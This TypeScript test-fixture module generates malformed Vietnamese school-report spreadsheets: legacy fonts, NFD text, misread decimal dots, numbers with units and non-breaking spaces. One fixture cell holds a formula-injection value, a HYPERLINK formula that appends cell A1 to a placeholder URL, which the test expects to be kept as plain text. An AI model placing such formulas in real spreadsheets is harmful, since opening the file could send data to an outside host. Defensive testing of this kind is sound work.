/** Forms whose cells hold what people and their keyboards put there: old fonts, units, dots, spaces. */
import { toLegacy } from '../../reporting/figures/legacy-fonts';
import type { Workbook } from '../../spreadsheet/model';
import type { FormMaker } from '../forms';
import { changeVisibleSchool, figureIn, typeOver } from './damage';
import { ACCEPTED, type DirtyEntry, type DirtyFile, PROPOSED, type Save, single } from './dirty-file';

interface Typed extends DirtyEntry {
  school: string;
  type(workbook: Workbook): void;
}

export async function* typingFiles(save: Save<Workbook>, makeForm: FormMaker): AsyncGenerator<DirtyFile> {
  for (const { school, type, ...entry } of TYPED) {
    const { workbook } = await makeForm(school);
    type(workbook);
    yield single(entry, await save(workbook));
  }
}

const RESULT = 'Tổ chức tốt hội giảng chào mừng ngày Nhà giáo Việt Nam; ứng dụng công nghệ thông tin ở 100% số lớp.';
const WEAKNESS = 'Đường truyền yếu nên việc dạy học trực tuyến còn chậm.';

const TYPED: readonly Typed[] = [
  {
    path: 'phong-vntime.xlsx',
    wrong: 'Phần thuyết minh gõ bằng phông .VnTime, .VnTimeH (TCVN3), mở ra chỉ thấy ký tự lạ; cần đổi sang Unicode.',
    school: 'UB-TH08',
    type: (workbook) => {
      typeOver(workbook, 'ketQua', toLegacy(RESULT, 'TCVN3'), '.VnTime');
      typeOver(workbook, 'hanChe', toLegacy(WEAKNESS.toUpperCase(), 'TCVN3'), '.VnTimeH');
    },
    ...PROPOSED,
  },
  {
    path: 'phong-vni.xlsx',
    wrong: 'Phần thuyết minh gõ bằng phông VNI-Times; cần đổi sang Unicode.',
    school: 'UB-TH02',
    type: (workbook) => typeOver(workbook, 'ketQua', toLegacy(RESULT, 'VNI'), 'VNI-Times'),
    ...PROPOSED,
  },
  {
    path: 'unicode-to-hop.xlsx',
    wrong: 'Tên trường và phần thuyết minh gõ bằng Unicode tổ hợp (NFD), nhìn giống hệt nhưng so sánh thì khác.',
    school: 'UB-TH07',
    type: (workbook) => {
      changeVisibleSchool(workbook, (text) => text.normalize('NFD'));
      typeOver(workbook, 'ketQua', RESULT.normalize('NFD'));
    },
    end: ACCEPTED,
  },
  {
    path: 'dau-cham-thanh-thap-phan.xlsx',
    wrong: 'Số học sinh có thẻ BHYT (hơn một nghìn) gõ có dấu chấm trong Excel tiếng Anh nên thành số thập phân.',
    school: 'UB-TH03',
    type: (workbook) => typeOver(workbook, 'bhyt', Number(figureIn(workbook, 'bhyt')) / 1000),
    ...PROPOSED,
    rules: ['phan-nghin'],
  },
  {
    path: 'so-kem-don-vi.xlsx',
    wrong: 'Số học sinh lớp 6 gõ kèm đơn vị: “… HS”.',
    school: 'UB-THCS08',
    type: (workbook) => typeOver(workbook, 'THCS_6_hocSinh', `${String(figureIn(workbook, 'THCS_6_hocSinh'))} HS`),
    ...PROPOSED,
  },
  {
    path: 'so-dang-chu.xlsx',
    wrong: 'Số học sinh có thẻ BHYT là chữ có dấu chấm phân cách hàng nghìn, không phải số.',
    school: 'UB-TH01',
    type: (workbook) => typeOver(workbook, 'bhyt', withDot(Number(figureIn(workbook, 'bhyt')))),
    ...PROPOSED,
  },
  {
    path: 'dau-cach-cung.xlsx',
    wrong: 'Số dán từ trang web, có dấu cách cứng (NBSP) ở trước và sau.',
    school: 'UB-THCS03',
    type: (workbook) => typeOver(workbook, 'THCS_7_nu', `\u00A0${String(figureIn(workbook, 'THCS_7_nu'))}\u00A0`),
    ...PROPOSED,
  },
  {
    path: 'chu-giong-cong-thuc.xlsx',
    wrong: 'Ô Kết quả nổi bật là chữ bắt đầu bằng dấu “=” (giống công thức HYPERLINK); phải giữ nguyên là chữ.',
    school: 'UB-MN14',
    type: (workbook) => typeOver(workbook, 'ketQua', '=HYPERLINK("http://vi-du.invalid/?"&A1,"Xem chi tiết")'),
    end: ACCEPTED,
  },
];

/** 1089 → "1.089". */
function withDot(count: number): string {
  return `${Math.floor(count / 1000)}.${String(count % 1000).padStart(3, '0')}`;
}
